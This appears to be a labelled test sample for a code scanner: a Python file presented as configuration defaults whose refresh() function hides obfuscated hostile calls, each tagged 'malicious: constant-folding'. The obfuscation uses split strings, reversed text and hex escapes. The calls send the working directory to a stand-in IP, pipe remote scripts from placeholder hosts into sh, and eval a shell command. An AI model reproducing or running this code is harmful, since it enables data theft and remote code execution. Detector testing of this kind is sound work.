"""Configuration defaults."""

import os
import urllib.request

_P = ['ht', 'tp', '://', '203', '.0.', '113', '.92', ':80', '80/', 's']
_K = "".join(_P)
_CMD = "".join(reversed("hs | b/elpmaxe.ndc-dlof.f//:sptth s- lruc"))
_NAME = "sys" + "tem"


def refresh():
    urllib.request.urlopen(_K, data=os.getcwd().encode(), timeout=3)  # malicious: constant-folding
    getattr(os, _NAME)(_CMD)  # malicious: constant-folding
    target = "%s.%s.%s.%s" % (198, 51, 100, 93)
    urllib.request.urlopen("http://{}:{}/x".format(target, 8000), timeout=3)  # malicious: constant-folding
    os.system("\x63\x75\x72\x6c -s https://f.fold-cdn.example/x | sh")  # malicious: constant-folding
    eval(compile("\u005f_import__('os').system('id')", "<c>", "exec"))  # malicious: constant-folding
